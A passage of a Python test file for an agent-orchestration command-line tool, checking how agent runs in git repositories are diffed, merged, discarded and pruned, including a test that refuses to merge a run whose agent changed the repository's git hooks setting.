"""Review before merge, what lands, and who decides: real git repositories, a real tmux
server, real agents, the real CLI in subprocesses."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shutil
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import apsw
import pytest
from conftest import (
    CliRunner,
    add_agent,
    agent_started,
    branches,
    git,
    make_repo,
    needs_tmux,
    wait_until,
)

from agentos.gate.judge import TestChanges as Allowed  # "Test..." is not a test class
from agentos.receipts import list_receipts, load_receipt, read_receipt
from agentos.run.gc import collect_garbage
from agentos.run.orchestrator import RunOptions, start_run
from agentos.run.review import AgentWork, GateSpec, MergeOutcome, landing_message, merge_run
from agentos.run.store import RunStatus, RunStore, process_start
from agentos.shared.checks import CheckSpec
from agentos.workspace.layout import Workspace, init_workspace

pytestmark = [needs_tmux, pytest.mark.usefixtures("tmux_socket")]

WRITER = 'echo "written by $AGENTOS_AGENT" >> notes.txt\n'


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repo", {"README.md": "# target\n", "notes.txt": "start\n"})


def top_field(text: str, key: str) -> str:
    """A top-level scalar field of a receipt."""
    match = re.search(rf"^{key}: (.*)$", text, re.MULTILINE)
    assert match, f"no {key} in receipt:\n{text}"
    return match.group(1).strip()


def run_json(cli: CliRunner, *args: str) -> tuple[int, dict[str, Any]]:
    out = cli(*args, "--json")
    assert out.stdout, out.stderr
    return out.returncode, json.loads(out.stdout)


def ready_run(cli: CliRunner, repo: Path) -> str:
    code, report = run_json(cli, "run", "writer-task", "--repo", str(repo), "--force", "--no-merge")
    assert code == 0, report
    assert report["status"] == "ready"
    return str(report["run"])


def test_no_merge_leaves_the_passing_work_on_its_branch_and_prints_a_diffstat(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    before = git(repo, "rev-parse", "main")

    out = cli("run", "writer-task", "--repo", str(repo), "--force", "--no-merge")

    assert out.returncode == 0, out.stderr
    run_id = re.search(r"run (\S+): ready", out.stdout).group(1)  # type: ignore[union-attr]
    assert "notes.txt | 1 +" in out.stdout
    assert f"agentos runs merge {run_id}" in out.stdout
    assert git(repo, "rev-parse", "main") == before
    assert branches(repo) == ["agentos/" + run_id + "/writer", "main"]
    record = RunStore(ws).get(run_id)
    assert record.status == "ready"
    (agent,) = record.agents
    assert agent.gated_commit == git(repo, "rev-parse", f"agentos/{run_id}/writer")


def test_runs_diff_shows_the_state_the_gate_passed(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    run_id = ready_run(cli, repo)

    out = cli("runs", "diff", run_id)
    stat = cli("runs", "diff", run_id, "writer", "--stat")
    as_json = json.loads(cli("runs", "diff", run_id, "--json").stdout)

    assert out.returncode == 0, out.stderr
    assert "+written by writer" in out.stdout
    assert "notes.txt | 1 +" in stat.stdout and "+written" not in stat.stdout
    (agent,) = as_json["agents"]
    assert agent["agent"] == "writer"
    assert agent["commit"] == git(repo, "rev-parse", f"agentos/{run_id}/writer")
    assert "+written by writer" in agent["patch"]
    git(repo, "update-ref", f"refs/heads/agentos/{run_id}/writer", "main")  # moved since
    (moved,) = json.loads(cli("runs", "diff", run_id, "--json").stdout)["agents"]
    assert moved["commit"] == agent["commit"]  # still the commit the gate passed
    unknown = cli("runs", "diff", run_id, "nobody")
    assert unknown.returncode == 2
    assert unknown.stderr.strip() == (
        f"error: AGENT: no agent 'nobody' in run {run_id} (agents: writer)"
    )


def test_runs_diff_of_a_failed_run_shows_the_tip_of_its_branch_kept_or_discarded(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "failer", WRITER, checks=[{"name": "never", "run": "false"}])
    ws.settings_file.write_text("run: {guardian: false, retries: 0}\n")
    code, report = run_json(cli, "run", "failer-task", "--repo", str(repo), "--force")
    assert (code, report["status"]) == (1, "failed")
    run_id = report["run"]
    base = git(repo, "rev-parse", "main")
    tip = git(repo, "rev-parse", f"agentos/{run_id}/failer")

    def diff(*args: str) -> str:  # as git writes it (conftest's git strips it)
        return subprocess.run(
            ["git", "diff", *args, base, tip], cwd=repo, capture_output=True, text=True
        ).stdout

    expected = {
        "run": run_id,
        "agents": [
            {
                "agent": "failer",
                "base": base,
                "commit": tip,
                "stat": diff("--stat"),
                "patch": diff(),
            }
        ],
    }
    assert json.loads(cli("runs", "diff", run_id, "--json").stdout) == expected
    assert run_json(cli, "runs", "discard", run_id)[1]["dropped"] == [f"agentos/{run_id}/failer"]
    assert json.loads(cli("runs", "diff", run_id, "--json").stdout) == expected  # archived


def failed_pair(ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path) -> str:
    """A failed run of two agents, left and right, each with its work on its branch."""
    for name in ("left", "right"):
        add_agent(
            ws,
            tmp_path,
            name,
            WRITER,
            card={"triggers": {"keywords": ["pair"]}},
            checks=[{"name": "never", "run": "false"}],
        )
    ws.settings_file.write_text("run: {guardian: false, retries: 0}\n")
    code, report = run_json(cli, "run", "pair up on the notes", "--repo", str(repo), "--force")
    assert (code, report["status"]) == (1, "failed"), report
    return str(report["run"])


def test_runs_diff_shows_nothing_committed_for_an_agent_whose_branch_is_gone(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    run_id = failed_pair(ws, cli, tmp_path, repo)
    git(repo, "branch", "-D", f"agentos/{run_id}/left")  # the person deleted it
    base = git(repo, "rev-parse", "main")
    tip = git(repo, "rev-parse", f"agentos/{run_id}/right")
    diff = subprocess.run(["git", "diff", base, tip], cwd=repo, capture_output=True, text=True)
    stat = subprocess.run(
        ["git", "diff", "--stat", base, tip], cwd=repo, capture_output=True, text=True
    )

    out = cli("runs", "diff", run_id, "--json")

    assert json.loads(out.stdout) == {
        "run": run_id,
        "agents": [
            {"agent": "left", "base": base, "commit": None, "stat": "", "patch": ""},
            {
                "agent": "right",
                "base": base,
                "commit": tip,
                "stat": stat.stdout,
                "patch": diff.stdout,
            },
        ],
    }
    assert cli("runs", "diff", run_id, "left").stdout == (
        f"== left ({base[:12]}..nothing committed)\n(no changes)\n"
    )


def test_an_agent_a_run_does_not_have_is_refused_naming_the_agents_it_has(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    pair = failed_pair(ws, cli, tmp_path, repo)
    code, report = run_json(
        cli, "run", "add a sentence about apples", "--repo", str(repo), "--force"
    )
    assert (code, report["status"]) == (1, "no_match"), report

    for run_id, agents in ((pair, "left, right"), (report["run"], "none")):
        diff = cli("runs", "diff", run_id, "nobody")
        merge = cli("runs", "merge", run_id, "--agent", "nobody")
        assert (diff.returncode, diff.stderr) == (
            2,
            f"error: AGENT: no agent 'nobody' in run {run_id} (agents: {agents})\n",
        )
        assert (merge.returncode, merge.stderr) == (
            2,
            f"error: --agent: no agent 'nobody' in run {run_id} (agents: {agents})\n",
        )


def test_runs_merge_lands_one_squashed_commit_naming_request_agent_and_receipts(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    base = git(repo, "rev-parse", "main")
    run_id = ready_run(cli, repo)
    gate_receipts = [r.id for r in list_receipts(ws, run_id=run_id) if r.kind == "gate"]
    nobody = cli("runs", "merge", run_id, "--agent", "nobody")
    assert (nobody.returncode, nobody.stderr) == (
        2,
        f"error: --agent: no agent 'nobody' in run {run_id} (agents: writer)\n",
    )

    code, merged = run_json(cli, "runs", "merge", run_id)

    assert code == 0, merged
    assert merged["status"] == "succeeded" and merged["merged"] is True
    assert git(repo, "rev-list", "--count", f"{base}..main") == "1"
    landed = git(repo, "rev-parse", "main")
    assert (merged["run"], merged["commit"], merged["commits"]) == (run_id, landed, [landed])
    message = git(repo, "log", "-1", "--format=%B", "main")
    assert message == (
        "writer-task\n\n"
        "Request: writer-task\n"
        f"Run: {run_id}\n"
        "Agent: writer@1.0.0 via writer-card\n"
        f"Receipts: {', '.join(gate_receipts)}"
    )
    assert (repo / "notes.txt").read_text() == "start\nwritten by writer\n"
    # The branch left the branch list; its commits stay reachable for the receipts.
    assert branches(repo) == ["main"]
    assert git(repo, "rev-parse", f"refs/agentos/runs/{run_id}/writer") == (
        RunStore(ws).get(run_id).agents[0].gated_commit
    )
    assert RunStore(ws).get(run_id).status == "succeeded"
    assert top_field(read_receipt(ws, merged["receipt"]), "via") == "agentos runs merge"
    again = cli("runs", "merge", run_id)
    assert again.returncode == 2
    assert "only a run that passed its gate and was not merged" in again.stderr


def test_runs_merge_of_a_run_whose_passing_commit_was_pruned_says_so(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    run_id = ready_run(cli, repo)
    gated = RunStore(ws).get(run_id).agents[0].gated_commit
    assert gated
    git(repo, "branch", "-D", f"agentos/{run_id}/writer")  # the person deleted it, and git
    git(repo, "reflog", "expire", "--expire=now", "--all")  # pruned what nothing reaches
    git(repo, "gc", "-q", "--prune=now")
    before = git(repo, "rev-parse", "main")

    out = cli("runs", "merge", run_id)

    assert (out.returncode, out.stderr) == (
        1,
        f"error: the commit {gated[:12]} that writer's gate passed is gone from {repo} (pruned?)\n",
    )
    assert git(repo, "rev-parse", "main") == before
    assert RunStore(ws).get(run_id).status == "ready"


def dead_pid() -> int:
    proc = subprocess.Popen(["true"])
    proc.wait()
    return proc.pid


def test_gc_records_a_merge_whose_process_died_after_it_landed_as_succeeded(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    run_id = ready_run(cli, repo)
    assert run_json(cli, "runs", "merge", run_id)[0] == 0
    gated = RunStore(ws).get(run_id).agents[0].gated_commit
    # As if its process died once the commit landed, before it moved the branch out of sight
    # and recorded the run's end; the person committed on the target since.
    git(repo, "branch", f"agentos/{run_id}/writer", f"refs/agentos/runs/{run_id}/writer")
    git(repo, "update-ref", "-d", f"refs/agentos/runs/{run_id}/writer")
    git(repo, "commit", "-q", "--allow-empty", "-m", "the person's own")
    store = RunStore(ws)
    store.update(run_id, status="merging", pid=dead_pid(), pid_start=None)
    store.close()

    gc = run_json(cli, "gc")

    assert gc == (
        0,
        {
            "aborted_runs": [run_id], "killed_sessions": [], "removed_worktrees": [],
            "saved_commits": [], "problems": [],
        },
    )  # fmt: skip
    record = RunStore(ws).get(run_id)
    assert (record.status, record.message) == (
        "succeeded",
        "the merge had landed when its process died; gc recorded it",
    )
    assert branches(repo) == ["main"]
    assert git(repo, "rev-parse", f"refs/agentos/runs/{run_id}/writer") == gated


@pytest.mark.process  # the run is made by a process of its own, ended before the merge
def test_a_run_being_merged_is_the_merging_processs_and_gc_leaves_it_alone(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    hold, held, release = tmp_path / "hold", tmp_path / "held", tmp_path / "release"
    # The first check that finds `hold` takes it and waits for `release`; others pass.
    waits = (
        f"if mv {hold} {held} 2>/dev/null; then while [ ! -e {release} ]; do sleep 0.05; done; fi"
    )
    add_agent(ws, tmp_path, "writer", WRITER, checks=[{"name": "waits", "run": waits}])
    ws.settings_file.write_text("run: {guardian: false}\nsandbox: {backend: none}\n")
    run_id = ready_run(cli, repo)
    (repo / "README.md").write_text("# target, edited meanwhile\n")
    git(repo, "commit", "-qam", "meanwhile")  # so the integration gate runs the check again
    hold.touch()
    merged: list[MergeOutcome] = []
    merging = threading.Thread(target=lambda: merged.append(merge_run(ws, run_id)))
    merging.start()
    try:
        wait_until(held.exists, what="the integration gate's check under way")
        store = RunStore(ws)
        record = store.get(run_id)
        store.close()
        me = os.getpid()  # before gc: gc of a merge it took for dead would wait on its lock
        assert (record.status, record.pid, record.pid_start) == ("merging", me, process_start(me))
        # What it lands is on a branch named for the run (gc's to remove, were it cut short)
        assert branches(repo) == [f"agentos-merge/{run_id}", f"agentos/{run_id}/writer", "main"]
        gc = collect_garbage(ws)
        again = cli("runs", "merge", run_id)
    finally:
        release.touch()
        merging.join()

    assert gc.as_dict() == {
        "aborted_runs": [], "killed_sessions": [], "removed_worktrees": [],
        "saved_commits": [], "problems": [],
    }  # fmt: skip
    assert again.returncode == 2
    assert f"run {run_id} has status merging;" in again.stderr
    (outcome,) = merged
    assert (outcome.status, outcome.result.merged) == ("succeeded", True)
    assert (repo / "notes.txt").read_text() == "start\nwritten by writer\n"


@pytest.mark.parametrize("squash", ["agent", "run"])
def test_runs_merge_of_agents_named_lands_their_work_in_their_order_and_keeps_how(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path, squash: str
) -> None:
    for name in ("east", "north", "south", "west"):
        card = {"triggers": {"keywords": ["compass"]}}
        add_agent(ws, tmp_path, name, f"echo {name} > {name}.txt\n", card=card)
    ws.settings_file.write_text(f"run: {{guardian: false, squash: {squash}}}\n")
    code, report = run_json(
        cli, "run", "compass points in the notes", "--repo", str(repo), "--force", "--no-merge"
    )
    assert (code, report["status"]) == (0, "ready"), report
    run_id = report["run"]
    base = git(repo, "rev-parse", "main")
    gated = {a.agent: a.gated_commit for a in RunStore(ws).get(run_id).agents}

    code, merged = run_json(cli, "runs", "merge", run_id, "--agent", "west", "--agent", "east")

    assert code == 0, merged
    commits = git(repo, "rev-list", "--reverse", f"{base}..main").split()
    changed = [git(repo, "show", "--name-only", "--format=", c).split() for c in commits]
    # One commit per agent in the order named, or one for the run (run.squash)
    assert changed == (
        [["west.txt"], ["east.txt"]] if squash == "agent" else [["east.txt", "west.txt"]]
    )
    n = len(commits)
    landed = (
        f"merged agentos/{run_id}/west, agentos/{run_id}/east into main ({n} commit{'s' * (n > 1)})"
    )
    message = f"{landed}; not landed: north, south (their branches are kept)"
    receipt = load_receipt(ws, merged["receipt"])
    assert receipt.fields == {
        "via": "agentos runs merge --agent west --agent east",
        "merged": True,
        "commit": commits[-1],
        "commits": commits,
        "conflicts": [],
        "conflicting_branch": None,
        "message": landed,
        "target": "main",
        "onto": base,
        "landed": {"west": gated["west"], "east": gated["east"]},
    }
    assert receipt.id in [r.id for r in list_receipts(ws, run_id=run_id) if r.kind == "merge"]
    assert (merged["status"], merged["message"]) == ("succeeded", message)
    record = RunStore(ws).get(run_id)
    assert (record.status, record.message) == ("succeeded", message)
    assert branches(repo) == [f"agentos/{run_id}/north", f"agentos/{run_id}/south", "main"]


def test_a_merge_that_fails_midway_leaves_the_run_as_it_was_saying_so(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    checks = [{"name": "notes kept", "run": "test -s notes.txt"}]
    add_agent(ws, tmp_path, "writer", WRITER, checks=checks)
    run_id = ready_run(cli, repo)
    (repo / ".agentos.yaml").write_text("tests: pytest\n")  # a setting that does not exist
    git(repo, "add", ".agentos.yaml")
    git(repo, "commit", "-qm", "settings the integration gate cannot read")
    before = git(repo, "rev-parse", "main")

    out = cli("runs", "merge", run_id)

    assert (out.returncode, out.stderr) == (
        2,
        f"error: {repo}/.agentos.yaml@{before[:12]}: tests: unknown field\n",
    )
    record = RunStore(ws).get(run_id)
    assert (record.status, record.message) == ("ready", "the merge failed; nothing was merged")
    assert git(repo, "rev-parse", "main") == before
    assert branches(repo) == [f"agentos/{run_id}/writer", "main"]


@pytest.mark.parametrize("kept", ["no-checks", "no-gate-spec"])
def test_runs_merge_onto_a_moved_target_gates_nothing_where_the_run_kept_no_checks(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path, kept: str
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)  # no checks of its own, none asked for
    run_id = ready_run(cli, repo)
    if kept == "no-gate-spec":  # a run of an AgentOS that kept none
        store = RunStore(ws)
        options = dict(store.get(run_id).options or {})
        del options["gate"]
        store.update(run_id, options=options)
        store.close()
    (repo / "README.md").write_text("# target, edited meanwhile\n")
    git(repo, "commit", "-qam", "meanwhile: README")
    gates = [r.id for r in list_receipts(ws, run_id=run_id) if r.kind == "gate"]

    code, merged = run_json(cli, "runs", "merge", run_id)

    assert (code, merged["merged"]) == (0, True), merged
    assert "integration_gate" not in load_receipt(ws, merged["receipt"]).fields
    assert [r.id for r in list_receipts(ws, run_id=run_id) if r.kind == "gate"] == gates


def test_runs_merge_keeps_what_the_target_gained_and_refuses_a_conflict(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    clean = ready_run(cli, repo)
    (repo / "README.md").write_text("# target, edited meanwhile\n")
    git(repo, "commit", "-qam", "meanwhile: README")

    code, merged = run_json(cli, "runs", "merge", clean)

    assert code == 0, merged
    assert (repo / "README.md").read_text() == "# target, edited meanwhile\n"
    assert (repo / "notes.txt").read_text() == "start\nwritten by writer\n"

    conflicting = ready_run(cli, repo)
    (repo / "notes.txt").write_text("rewritten by the person\n")
    git(repo, "commit", "-qam", "meanwhile: notes")
    tip = git(repo, "rev-parse", "main")

    code, refused = run_json(cli, "runs", "merge", conflicting)

    assert code == 1
    assert refused["merged"] is False and refused["conflicts"] == ["notes.txt"]
    assert git(repo, "rev-parse", "main") == tip
    assert git(repo, "status", "--porcelain") == ""
    record = RunStore(ws).get(conflicting)
    assert (record.status, record.message) == (
        "ready",
        f"{refused['message']}; nothing was merged",
    )
    assert f"agentos/{conflicting}/writer" in branches(repo)


def test_a_merge_receipt_of_a_redacting_workspace_names_no_file_the_request_named(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    ws.settings_file.write_text("run: {guardian: false}\nreceipts: {redact: true}\n")
    code, report = run_json(
        cli, "run", "writer-task: one more line in notes.txt", "--repo", str(repo), "--force",
        "--no-merge",
    )  # fmt: skip
    assert (code, report["status"]) == (0, "ready"), report
    (repo / "notes.txt").write_text("rewritten by the person\n")
    git(repo, "commit", "-qam", "meanwhile: notes")

    out = cli("runs", "merge", report["run"], "--json")

    merged = json.loads(out.stdout)
    assert (out.returncode, merged["conflicts"]) == (1, ["notes.txt"])
    merge = load_receipt(ws, merged["receipt"])
    assert merge.fields["conflicts"] == ["[redacted: 9 characters]"]
    assert "notes.txt" not in read_receipt(ws, merge.id)


def test_runs_discard_drops_the_branches_and_marks_the_run(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    run_id = ready_run(cli, repo)
    commit = RunStore(ws).get(run_id).agents[0].gated_commit

    code, out = run_json(cli, "runs", "discard", run_id)

    assert code == 0
    assert out == {"run": run_id, "dropped": [f"agentos/{run_id}/writer"]}
    assert branches(repo) == ["main"]
    record = RunStore(ws).get(run_id)
    assert (record.status, record.message) == ("discarded", "discarded by the user")
    assert git(repo, "rev-parse", f"refs/agentos/runs/{run_id}/writer") == commit
    (discard,) = [r for r in list_receipts(ws, run_id=run_id) if r.kind == "discard"]
    assert load_receipt(ws, discard.id).fields == {
        "via": "agentos runs discard",
        "branches": [f"agentos/{run_id}/writer"],
    }
    for agents, which in (
        (
            (),
            "a run that passed its gate and was not merged (run --no-merge: ready, or a conflict)",
        ),
        (("--agent", "writer"), "a ready, conflict or failed run"),
    ):
        refused = cli("runs", "merge", run_id, *agents)
        assert (refused.returncode, refused.stderr) == (
            2,
            f"error: ID: run {run_id} has status discarded; only {which} can be merged\n",
        )
    assert run_json(cli, "runs", "discard", run_id) == (0, {"run": run_id, "dropped": []})


def test_a_live_run_cannot_be_discarded(ws: Workspace, cli: CliRunner, repo: Path) -> None:
    run_id = "20000101-000000-live01"
    store = RunStore(ws)
    store.create(run_id, "work under way", repo)  # by this process, which is alive
    store.update(run_id, status=RunStatus.RUNNING)
    store.add_agent(run_id, "writer", "1.0.0", branch=f"agentos/{run_id}/writer")
    store.close()
    git(repo, "branch", f"agentos/{run_id}/writer")

    out = cli("runs", "discard", run_id)

    assert (out.returncode, out.stderr) == (
        2,
        f"error: ID: run {run_id} is still running: cancel it first\n",
    )
    assert f"agentos/{run_id}/writer" in branches(repo)
    assert RunStore(ws).get(run_id).status == "running"


def test_a_run_whose_repository_is_gone_is_named_so_by_diff_merge_and_discard(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    run_id = ready_run(cli, repo)
    shutil.rmtree(repo)

    for command in ("diff", "merge", "discard"):
        out = cli("runs", command, run_id)
        assert (out.returncode, out.stderr) == (
            2,
            f"error: {repo}: repo: the repository of run {run_id} is gone\n",
        ), command
    assert RunStore(ws).get(run_id).status == "ready"


def test_runs_diff_merge_and_discard_of_another_hosts_run_say_which_host_has_it(
    ws: Workspace,
    cli: CliRunner,
    tmp_path: Path,
    repo: Path,
    pg_url: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    monkeypatch.setenv("AGENTOS_HOST_ID", "alpha")
    run_id = ready_run(cli, repo)
    beta, _ = init_workspace(tmp_path / "beta")  # another machine, the same state

    for command in ("diff", "merge", "discard"):
        out = cli("runs", command, run_id, env={"AGENTOS_HOST_ID": "beta"}, workspace=beta.root)
        assert (out.returncode, out.stderr) == (
            2,
            f"error: run {run_id} runs on host alpha, not this one (beta): review and merge it "
            "there\n",
        ), command
    store = RunStore(ws)
    assert store.get(run_id).status == "ready"
    store.close()
    assert branches(repo) == [f"agentos/{run_id}/writer", "main"]


def test_a_run_whose_agents_changed_the_git_administration_is_never_merged_even_by_agent(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    ws.settings_file.write_text("run: {guardian: false}\nsandbox: {backend: none}\n")
    add_agent(ws, tmp_path, "hooker", WRITER + "git config core.hooksPath hooks\n")
    code, report = run_json(cli, "run", "hooker-task", "--repo", str(repo), "--force")
    assert (code, report["status"]) == (1, "failed"), report
    run_id = report["run"]
    before = git(repo, "rev-parse", "main")

    out = cli("runs", "merge", run_id, "--agent", "hooker")

    assert (out.returncode, out.stderr) == (
        2,
        f"error: ID: run {run_id} must not be merged: its agents changed the repository's git "
        "administration\n",
    )
    assert git(repo, "rev-parse", "main") == before
    assert RunStore(ws).get(run_id).status == "failed"


def test_a_failed_first_attempt_never_reaches_the_target_branch(
    ws: Workspace, tmp_path: Path, repo: Path
) -> None:
    add_agent(
        ws,
        tmp_path,
        "learner",
        'if [ "$AGENTOS_ATTEMPT" = 1 ]; then echo broken > value.txt; '
        "else echo right > value.txt; fi\n",
        checks=[{"name": "value is right", "run": "grep -qx right value.txt"}],
    )
    base = git(repo, "rev-parse", "main")

    report = start_run(ws, "learner-task", repo, force=True)

    assert report.status == "succeeded", report.message
    (agent,) = report.agents
    assert agent.attempts == 2
    landed = git(repo, "rev-list", f"{base}..main").split()
    assert len(landed) == 1
    for commit in landed:  # in no commit on the target does the check fail
        assert git(repo, "show", f"{commit}:value.txt") == "right"
    # The failed attempt stays findable through its gate receipt.
    first, second = (read_receipt(ws, rid) for rid in agent.receipts)
    assert top_field(first, "accepted") == "false"
    assert git(repo, "show", f"{top_field(first, 'commit')}:value.txt") == "broken"
    assert top_field(second, "commit") == agent.gated_commit
    assert (
        git(
            repo,
            "merge-base",
            "--is-ancestor",
            top_field(first, "commit"),
            f"refs/agentos/runs/{report.run_id}/learner",
        )
        == ""
    )


def _age_run(ws: Workspace, run_id: str, days: float) -> None:
    con = apsw.Connection(str(ws.state_db))
    con.execute("UPDATE runs SET ended_at = ? WHERE id = ?", (time.time() - days * 86400, run_id))
    con.close()


def test_prune_removes_old_kept_branches_and_never_younger_work(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(
        ws,
        tmp_path,
        "failer",
        WRITER,
        checks=[{"name": "never", "run": "false"}],
    )
    ws.settings_file.write_text("run: {guardian: false, retries: 0, keep_days: 7}\n")
    old = run_json(cli, "run", "failer-task", "--repo", str(repo), "--force")[1]["run"]
    young = run_json(cli, "run", "failer-task", "--repo", str(repo), "--force")[1]["run"]
    assert sorted(branches(repo)) == sorted(
        ["main", f"agentos/{old}/failer", f"agentos/{young}/failer"]
    )
    _age_run(ws, old, 8)

    code, pruned = run_json(cli, "runs", "prune")

    assert code == 0
    assert pruned == {"removed": [f"{repo}: refs/heads/agentos/{old}/failer"], "problems": []}
    assert sorted(branches(repo)) == sorted(["main", f"agentos/{young}/failer"])
    assert RunStore(ws).get(old).status == "failed"  # only a ready run becomes discarded
    _age_run(ws, young, 3)
    gc = json.loads(cli("gc", "--branches", "--json").stdout)
    assert gc["pruned_refs"] == []
    assert json.loads(cli("runs", "prune", "--older-than", "1", "--json").stdout)["removed"] == [
        f"{repo}: refs/heads/agentos/{young}/failer"
    ]
    assert branches(repo) == ["main"]


def test_prune_discards_a_ready_run_whose_branches_it_removes_saying_why(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    run_id = ready_run(cli, repo)
    _age_run(ws, run_id, 8)

    assert run_json(cli, "runs", "prune", "--older-than", "7")[1]["removed"] == [
        f"{repo}: refs/heads/agentos/{run_id}/writer"
    ]
    record = RunStore(ws).get(run_id)
    assert (record.status, record.message) == ("discarded", "not merged within 7 days; pruned")


def test_prune_goes_on_past_runs_whose_repository_or_branches_are_gone(
    ws: Workspace, cli: CliRunner, tmp_path: Path
) -> None:
    kept, gone = make_repo(tmp_path / "kept"), make_repo(tmp_path / "gone")
    month = time.time() - 40 * 86400
    store = RunStore(ws)
    for n, (run_id, repo) in enumerate(  # listed newest first: gone, bare, then old
        (
            ("20000101-000000-old001", kept),
            ("20000102-000000-bare01", kept),
            ("20000103-000000-gone01", gone),
        )
    ):
        store.create(run_id, "old work", repo)
        store.update(run_id, status=RunStatus.FAILED, created_at=month + n, ended_at=month + n)
    store.close()
    git(kept, "branch", "agentos/20000101-000000-old001/agent")
    shutil.rmtree(gone)

    pruned = run_json(cli, "runs", "prune", "--older-than", "1")

    assert pruned == (
        0,
        {"removed": [f"{kept}: refs/heads/agentos/20000101-000000-old001/agent"], "problems": []},
    )
    assert branches(kept) == ["main"]


def test_the_default_agent_takes_requests_no_card_matches_and_the_receipt_says_so(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    ws.settings_file.write_text("run: {guardian: false, default_agent: writer}\n")

    code, report = run_json(
        cli, "run", "add a sentence about apples", "--repo", str(repo), "--force"
    )

    assert code == 0, report
    assert report["decision"]["decided_by"] == "run.default_agent"
    assert [s["agent"] for s in report["decision"]["selected"]] == ["writer"]
    route_receipt = next(r for r in list_receipts(ws, run_id=report["run"]) if r.kind == "route")
    assert top_field(read_receipt(ws, route_receipt.id), "decided_by") == "run.default_agent"
    # A request a card matches is still the cards' to decide.
    routed = json.loads(cli("route", "writer-task", "--json").stdout)
    assert routed["decided_by"] == "cards"


def test_agent_option_picks_the_agent_and_version_over_the_cards(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(ws, tmp_path, "writer", WRITER)
    add_agent(ws, tmp_path, "other", "echo other > other.txt\n")

    code, report = run_json(
        cli, "run", "writer-task", "--repo", str(repo), "--force", "--agent", "other@1.0.0"
    )

    assert code == 0, report
    assert report["decision"]["decided_by"] == "--agent"
    assert [s["agent"] for s in report["decision"]["selected"]] == ["other"]
    assert (repo / "other.txt").exists() and (repo / "notes.txt").read_text() == "start\n"
    missing = cli("run", "writer-task", "--repo", str(repo), "--force", "--agent", "other@9.9.9")
    assert missing.returncode == 2
    assert missing.stderr == ("error: --agent: other@9.9.9 is not installed (installed: 1.0.0)\n")


def test_a_default_agent_that_is_not_installed_is_one_line_naming_the_setting(
    ws: Workspace, cli: CliRunner, repo: Path
) -> None:
    ws.settings_file.write_text("run: {guardian: false, default_agent: nobody}\n")

    out = cli("route", "add a sentence about apples")

    assert out.returncode == 2
    assert out.stderr == (
        f"error: {ws.settings_file}: run.default_agent: agent 'nobody' is not installed "
        "in the hub\n"
    )


def test_the_run_tells_which_check_failed_and_the_end_of_its_output(
    ws: Workspace, cli: CliRunner, tmp_path: Path, repo: Path
) -> None:
    add_agent(
        ws,
        tmp_path,
        "failer",
        WRITER,
        checks=[
            {
                "name": "colourful failure",
                "run": r"printf '\033[1;31mE   AssertionError: 1 != 2\033[0m\n'; exit 1",
            }
        ],
    )
    ws.settings_file.write_text("run: {guardian: false, retries: 0}\n")

    out = cli("run", "failer-task", "--repo", str(repo), "--force")

    assert out.returncode == 1
    assert "FAILED colourful failure" in out.stdout
    assert "E   AssertionError: 1 != 2" in out.stdout
    assert "\x1b" not in out.stdout
    run_id = re.search(r"run (\S+): failed", out.stdout).group(1)  # type: ignore[union-attr]
    show = cli("runs", "show", run_id)
    assert "FAILED colourful failure" in show.stdout
    assert "E   AssertionError: 1 != 2" in show.stdout and "\x1b" not in show.stdout
    (agent,) = json.loads(cli("runs", "show", run_id, "--json").stdout)["agents"]
    (failing,) = [c for c in agent["gate"]["checks"] if not c["passed"]]
    assert failing["output_tail"] == "E   AssertionError: 1 != 2\n"


def test_a_detached_vague_request_exits_1_at_once_with_the_questions(
    ws: Workspace, cli: CliRunner, repo: Path
) -> None:
    out = cli("run", "improve things", "--repo", str(repo), "--detach")

    assert out.returncode == 1
    assert out.stderr.startswith("blocked: the request is too vague to start")
    assert "  goal: " in out.stderr and "  success: " in out.stderr
    assert RunStore(ws).list() == []
    as_json = json.loads(
        cli("run", "improve things", "--repo", str(repo), "--detach", "--json").stdout
    )
    assert as_json["status"] == "blocked" and as_json["questions"]


def test_a_repository_that_is_not_git_is_refused_before_the_interview(
    cli: CliRunner, tmp_path: Path
) -> None:
    plain = tmp_path / "plain"
